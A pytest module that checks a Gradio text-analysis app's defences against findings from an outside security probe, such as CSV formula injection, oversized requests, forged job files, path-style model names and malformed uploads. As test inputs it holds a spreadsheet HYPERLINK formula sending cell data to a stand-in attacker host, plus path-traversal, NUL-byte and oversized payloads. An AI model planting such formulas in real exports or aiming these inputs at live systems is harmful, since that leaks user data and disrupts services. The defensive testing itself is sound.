"""What an outside probe of a public deployment found (issue 14), one test per finding, through the
app's HTTP API as a stranger's script sends it (gradio_client, or raw HTTP where the client would
refuse to send such a request): each is refused with a clear message or handled, never with a
traceback, and the server's log of the whole module holds no traceback either.

One app serves the module (tiny models, the app's own queue and launch options, its own checkpoints
folder holding a "shipped" model: a folder no run created).
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

gr = pytest.importorskip("gradio")
gradio_client = pytest.importorskip("gradio_client")

from gradio_client import handle_file  # noqa: E402

from tests.conftest import services_with  # noqa: E402
from tests.ui.conftest import captured_server_log, launch, output_value  # noqa: E402
from tests.ui.test_bad_input import refused, still_serving  # noqa: E402
from tests.ui.test_finetune_tab import _form  # noqa: E402
from xling.config import REPO_ROOT  # noqa: E402

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def server_log():
    with captured_server_log() as log:
        yield log


@pytest.fixture(scope="module")
def services(tiny_xling_dir, tmp_path_factory):
    services = services_with(tmp_path_factory.mktemp("hostile"), {"tiny-xling": tiny_xling_dir,
                                                                   "shipped": tiny_xling_dir}, warm_up=False)
    shipped = services.checkpoints / "shipped"  # as checkpoints/xling-encoder is committed: no job.json
    shutil.copy(REPO_ROOT / "configs" / "smoke.yaml", shipped / "config.yaml")
    (shipped / "progress.jsonl").write_text('{"event": "start", "step": 0}\n{"event": "finished", "step": 20}\n')
    (services.checkpoints / "README.md").write_text("# checkpoints\n")
    return services


@pytest.fixture(scope="module")
def client(services, server_log):
    from xling.ui.app import build_app, launch_options

    with launch(build_app(services=services), **launch_options(services.config)) as client:
        yield client


def raw_call(client, api_name: str, body: bytes) -> tuple[str, Any]:
    """POST ``body`` (JSON text, as written) to ``/gradio_api/call/<api_name>`` and read the event
    stream's outcome: ``("complete", data)`` or ``("error", message)``."""
    import httpx

    answer = httpx.post(f"{client.src}gradio_api/call/{api_name}", content=body,
                        headers={"content-type": "application/json"}, timeout=60)
    assert answer.status_code == 200, answer.text
    event_id = answer.json()["event_id"]
    with httpx.stream("GET", f"{client.src}gradio_api/call/{api_name}/{event_id}", timeout=120) as stream:
        kind = None
        for line in stream.iter_lines():
            if line.startswith("event: "):
                kind = line[len("event: "):]
            elif line.startswith("data: ") and kind in {"complete", "error"}:
                return kind, json.loads(line[len("data: "):])
    raise AssertionError("no outcome")


def read_csv(path: str) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# --------------------------------------------------------------------------- 2. cancelled jobs stop


def test_a_cancelled_batch_detection_stops_and_keeps_its_slot_until_it_has(client, services, tmp_path, monkeypatch):
    """Two batch jobs (concurrency 1), the first cancelled: its detector calls stop within a batch,
    and the two never run at once."""
    reference = services.reference_detector()
    original = type(reference).predict
    active, overlap, calls = [0], [False], [0]
    guard = threading.Lock()

    def slow_predict(self, texts, k=1):
        with guard:
            active[0] += 1
            overlap[0] = overlap[0] or active[0] > 1
            calls[0] += 1
        try:
            time.sleep(0.05)
            return original(self, texts, k=k)
        finally:
            with guard:
                active[0] -= 1

    big = tmp_path / "big.txt"
    big.write_text("Das ist ein ganz normaler Satz.\n" * 20_000, encoding="utf-8")
    monkeypatch.setattr(type(reference), "predict", slow_predict)
    if True:
        first = client.submit(handle_file(str(big)), "tiny-xling", api_name="/detect_batch")
        deadline = time.time() + 60
        while calls[0] < 3 and time.time() < deadline:
            time.sleep(0.05)
        assert calls[0] >= 3, "the first job never started"
        first.cancel()
        second = client.submit(handle_file(str(big)), "tiny-xling", api_name="/detect_batch")
        time.sleep(1.0)
        second.cancel()
        time.sleep(1.0)
        settled = calls[0]
        time.sleep(1.5)
        assert calls[0] == settled, "a cancelled job kept detecting"
        assert settled < 2 * 20_000 // 128, "the jobs ran to the end"
        assert not overlap[0], "a cancelled job ran beside the next one"
    monkeypatch.undo()
    still_serving(client)


def test_a_cancelled_search_over_an_upload_stops_encoding(client, services, tmp_path, monkeypatch):
    """Encoding an uploaded corpus runs in steps (xling.ui.components.in_steps): once the client
    cancels, no further chunk is encoded and the next request is answered."""
    encoder = services.encoder("tiny-xling")
    original = type(encoder).encode
    calls = [0]

    def slow_encode(self, texts, *args, **kwargs):
        calls[0] += 1
        time.sleep(0.1)
        return original(self, texts, *args, **kwargs)

    big = tmp_path / "corpus.txt"
    big.write_text("".join(f"Satz Nummer {i} über ein Haus.\n" for i in range(30_000)), encoding="utf-8")
    monkeypatch.setattr(type(encoder), "encode", slow_encode)
    job = client.submit("Ein Haus", "tiny-xling", 5, [], False, handle_file(str(big)), api_name="/search")
    deadline = time.time() + 60
    while calls[0] < 3 and time.time() < deadline:
        time.sleep(0.05)
    assert calls[0] >= 3, "the search never started encoding"
    job.cancel()
    time.sleep(1.5)
    settled = calls[0]
    time.sleep(1.5)
    assert calls[0] == settled < 30_000 // 512, "a cancelled search kept encoding"
    monkeypatch.undo()
    still_serving(client)


# --------------------------------------------------------------------------- 3. formula injection


def test_csv_downloads_neutralise_formulas_and_the_page_shows_the_text(client, tmp_path):
    upload = tmp_path / "texts.csv"
    upload.write_text(f'text\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\n+SUM(1)\n-0.5 Grad\n@cmd Hallo\nNormal\n',
                      encoding="utf-8")
    summary, table, download = client.predict(handle_file(str(upload)), "tiny-xling", api_name="/detect_batch")
    shown = [row[-1] for row in output_value(table)["data"]]
    assert FORMULA in shown  # the page shows the text as it is
    rows = read_csv(download["value"] if isinstance(download, dict) and "value" in download else download)
    texts = [row[0] for row in rows[1:]]
    assert texts == ["'" + FORMULA, "'+SUM(1)", "'-0.5 Grad", "'@cmd Hallo", "Normal"]
    _, pairs, mined = client.predict(f"{FORMULA}\nThe cat sleeps.", "=1+1\nDie Katze schläft.", "tiny-xling", 4,
                                     "mutual", 0, None, None, api_name="/mine")
    mined_rows = read_csv(mined["value"] if isinstance(mined, dict) and "value" in mined else mined)
    cells = {cell for row in mined_rows[1:] for cell in row[4:]}
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
    assert all(row[2].replace(".", "").replace("-", "").isdigit() for row in mined_rows[1:])  # numbers untouched


def test_map_and_projector_exports_neutralise_formulas(tmp_path):
    import numpy as np

    from xling.core import projection
    from xling.data.texts import CorpusText, make_collection

    texts = [FORMULA, "-Hallo", "ok"]
    collection = make_collection("x", [CorpusText(t, lang, "g") for t, lang in zip(texts, ("en", "de", "fr"))])
    sample = projection.MapSample(collection=collection, indices=(0, 1, 2))
    points = [projection.MapPoint(index=i, text=t, lang="en", group="g", x=-1.5, y=0.25) for i, t in enumerate(texts)]
    rows = read_csv(str(projection.write_projection_csv(tmp_path / "map.csv", points)))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA, "'-Hallo", "ok"] and rows[1][3] == "-1.5"
    _, metadata = projection.write_projector_tsv(tmp_path, np.zeros((3, 2)), sample)
    assert metadata.read_text(encoding="utf-8").splitlines()[1:] == ["en\tg\t'" + FORMULA, "de\tg\t'-Hallo", "fr\tg\tok"]


# --------------------------------------------------------------------------- 4. shipped models


def test_a_shipped_model_is_never_resumed_started_into_or_stopped(client, services):
    shipped = services.checkpoints / "shipped"
    before = {p.name: p.read_bytes() for p in shipped.iterdir() if p.is_file()}
    assert "no run of this app created" in refused(client, "/resume_run", "shipped", 8001, "")
    assert "no run of this app created" in refused(client, "/start_run", **_form("shipped", 5), admin_token="")
    message, *_ = client.predict("shipped", "", api_name="/stop_run")  # nothing is training there: nothing done
    assert "finished" in message
    assert "is a file of the checkpoints folder" in refused(client, "/start_run", **_form("README.md", 5), admin_token="")
    assert {p.name: p.read_bytes() for p in shipped.iterdir() if p.is_file()} == before


# --------------------------------------------------------------------------- 5. unbounded memory


def test_request_bodies_over_the_limit_are_refused_unread(client):
    import httpx

    big = b'{"data": ["' + b"x" * (5 * 2**20) + b'"], "fn_index": 0, "session_hash": "s"}'
    answer = httpx.post(f"{client.src}gradio_api/queue/join", content=big,
                        headers={"content-type": "application/json"}, timeout=60)
    assert answer.status_code == 413 and "limit" in answer.text
    chunked = httpx.post(f"{client.src}gradio_api/queue/join", content=iter([big[:2**20]] * 5),
                         headers={"content-type": "application/json"}, timeout=60)
    assert chunked.status_code == 413
    still_serving(client)


# --------------------------------------------------------------------------- 6. job.json trusted


def test_a_forged_job_file_neither_blocks_starts_nor_gets_a_process_signalled(client, services):
    other = subprocess.Popen(["sleep", "60"], start_new_session=True)
    try:
        run_dir = services.checkpoints / "forged"
        run_dir.mkdir()
        shutil.copy(REPO_ROOT / "configs" / "smoke.yaml", run_dir / "config.yaml")
        (run_dir / "job.json").write_text(json.dumps({
            "run_name": "forged", "run_dir": str(run_dir), "pid": other.pid, "pgid": other.pid,
            "command": ["sleep", "60"], "started": time.time(), "proc_start": None}))
        client.predict("forged", "", api_name="/stop_run")
        time.sleep(0.3)
        assert other.poll() is None, "stop signalled a process that is not the run's"
        out = client.predict("forged", False, api_name="/run_status")
        assert "running" not in json.dumps(out[1])
    finally:
        other.kill()
        other.wait()
        shutil.rmtree(services.checkpoints / "forged", ignore_errors=True)


# --------------------------------------------------------------------------- 7. lone surrogates


@pytest.mark.parametrize(("api_name", "rest"), [
    ("detect", '"tiny-xling", "fasttext"'),
    ("fill_mask", '"tiny-xling", 5, "sequential", "auto", "", null'),
    ("search", '"tiny-xling", 5, [], false, null'),
])
def test_lone_surrogates_are_removed_at_the_boundary(client, api_name, rest):
    kind, data = raw_call(client, api_name, ('{"data": ["Das ist ein Haus \\ud800 am See [MASK].", ' + rest + "]}").encode())
    assert kind == "complete", data
    kind, data = raw_call(client, api_name, ('{"data": ["\\udc00\\ud800 \\ud800", ' + rest + "]}").encode())
    assert kind == "error" and "Traceback" not in json.dumps(data)
    kind, data = raw_call(client, "detect", b'{"data": ["Das ist ein Haus.", "tiny-\\ud800xling", "fasttext"]}')
    assert kind == "complete", data


# --------------------------------------------------------------------------- 8. malformed files and names


@pytest.mark.parametrize(("content", "message"), [
    ('{"text": ' + "[" * 100_000 + "]" * 100_000 + "}\n", "nested too deeply"),
    ('{"text": "Hallo", "n": ' + "9" * 5000 + "}\n", "not usable JSON"),
    ('{"text": "Hallo"}\n{"sentence": "Bonjour"}\n{"sentence": "Hola"}\n', "2 lines without the 'text' field"),
    ('{"text": "Hallo", "lang": "zz"}\n', "'zz' is not a language code"),
    ('{"text": {"nested": "object"}}\n', "holds an object, not text"),
], ids=["deep", "huge-number", "mixed-fields", "unknown-gold", "object-text"])
def test_malformed_jsonl_files(client, tmp_path, content, message):
    upload = tmp_path / "bad.jsonl"
    upload.write_text(content, encoding="utf-8")
    assert message in refused(client, "/detect_batch", handle_file(str(upload)), "tiny-xling")


@pytest.mark.parametrize(("name", "message"), [("x" * 300, "at most 256"), ("é" * 200, "at most 256"),
                                               ("tiny\x00xling", "'tinyxling' is not a local folder")],
                         ids=["300-chars", "400-bytes-part", "nul"])
def test_model_names_no_folder_can_have(client, name, message):
    assert message in refused(client, "/detect", "Das ist ein Haus.", name)
    assert message in refused(client, "/fill_mask", "Das [MASK].", name, 5, "sequential", "auto", "")


def test_an_oversized_config_file_is_refused_before_it_is_parsed(client, services, tiny_xling_dir):
    folder = services.checkpoints / "huge-config"
    shutil.copytree(tiny_xling_dir, folder)
    with (folder / "config.json").open("w") as handle:
        handle.write('{"pad": "' + "x" * (80 * 2**20) + '"}')
    started = time.monotonic()
    assert "config.json is 80.0 MB" in refused(client, "/fill_mask", "Das [MASK].", "huge-config", 5, "sequential",
                                               "auto", "")
    assert time.monotonic() - started < 10
    shutil.rmtree(folder)


# --------------------------------------------------------------------------- 10. non-text


@pytest.mark.parametrize(("text", "found"), [
    ("\x00" * 1000, "the text is empty"),
    ("😀" * 10_000, "no letters, only 10,000 emoji"),
    ("\ue000" * 500, "only 500 private-use characters"),
    ("12 + 7 = 19 %", "no letters, only 5 digits, 1 punctuation, 2 symbols"),
], ids=["nuls", "emoji", "private-use", "digits"])
def test_text_without_letters_has_no_language(client, text, found):
    assert found in refused(client, "/detect", text, "tiny-xling")


def test_a_search_for_no_letters_says_so_instead_of_ranking_noise(client):
    # A vector of emoji "found" Screen / six / Greece at 0.87 before.
    assert "no letters, only 50 emoji" in refused(client, "/search", "😀" * 50, "tiny-xling", 5, [], False, None)


def test_invisible_characters_do_not_change_the_answer(client):
    plain, *_ = client.predict("Das ist ein kleines Haus am See.", "tiny-xling", api_name="/detect")
    hidden, *_ = client.predict("\u200b ".join("Das ist ein kleines Haus am See.".split(" ")).replace("Haus", "Ha\u00adus"),
                                "tiny-xling", api_name="/detect")
    assert hidden == plain and "German" in plain  # the model reads the same text


@pytest.mark.parametrize("value", ["42", "[1, 2]", '{"a": 1}', "true"])
def test_text_fields_take_text_only(client, value):
    kind, data = raw_call(client, "detect", ('{"data": [' + value + ', "tiny-xling", "fasttext"]}').encode())
    assert kind == "error" and "expected text" in json.dumps(data)


def test_whole_number_fields_and_empty_mlm_names(client):
    assert "expected a whole number, got 2.5" in refused(client, "/fill_mask", "Das [MASK].", "tiny-xling", 2.5,
                                                        "sequential", "auto", "")
    assert "name the masked LM after 'mlm:'" in refused(client, "/search", "Hallo", "mlm:", 5, [], False, None)


# --------------------------------------------------------------------------- 12. small ones


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_utf16_and_utf32_files_are_read(client, tmp_path, encoding):
    upload = tmp_path / f"{encoding}.txt"
    upload.write_bytes("Das ist ein kleines Haus am See.\nC'est une petite maison.\n".encode(encoding))
    summary, table, _ = client.predict(handle_file(str(upload)), "tiny-xling", api_name="/detect_batch")
    assert "2 texts" in summary and output_value(table)["data"][0][-1] == "Das ist ein kleines Haus am See."


# --------------------------------------------------------------------------- 9. the log


def test_the_server_log_of_this_module_holds_no_traceback(client, server_log):
    """Last in the module: every bad request above is a warning line at most."""
    for bad in (lambda: client.predict("Das [MASK].", "tiny-xling", 0, "sequential", "auto", "", api_name="/fill_mask"),
                lambda: client.predict("Hallo", "tiny-xling", 5, "sideways", "auto", "", api_name="/fill_mask")):
        with pytest.raises(gradio_client.exceptions.AppError):
            bad()
    log = server_log.text()
    assert "refused a request" in log
    assert "Traceback" not in log, log[log.index("Traceback") - 500:][:3000]


# --------------------------------------------------------------------------- 11. public preview


@pytest.fixture(scope="module")
def public_client(tiny_xling_dir, tmp_path_factory):
    from xling.ui.app import build_app, launch_options

    services = services_with(tmp_path_factory.mktemp("hostile-public"), {"tiny-xling": tiny_xling_dir},
                             warm_up=False, public=True)
    with launch(build_app(services=services), **launch_options(services.config)) as client:
        yield client, services


def test_public_preview_takes_listed_names_and_shows_no_server_path(public_client):
    client, services = public_client
    for base in ("/etc", "~/models", "../x"):
        message = refused(client, "/preview_command", **_form("p", 5, base_model=base))
        assert "not by path" in message
    command, config, note = client.predict(**_form("p", 5, base_model="tiny-xling"), api_name="/preview_command")
    shown = command + config + note
    assert command.startswith("python -m xling.training --config checkpoints/p/config.yaml")
    for private in (str(services.checkpoints), sys.executable, str(Path.home()), str(REPO_ROOT)):
        assert private not in shown, private
    message = refused(client, "/preview_command", **_form("p", 5, base_model="no-such-model"))
    assert str(services.checkpoints) not in message and str(Path.home()) not in message
    assert os.sep + "root" not in message or str(Path.home()) != "/root"
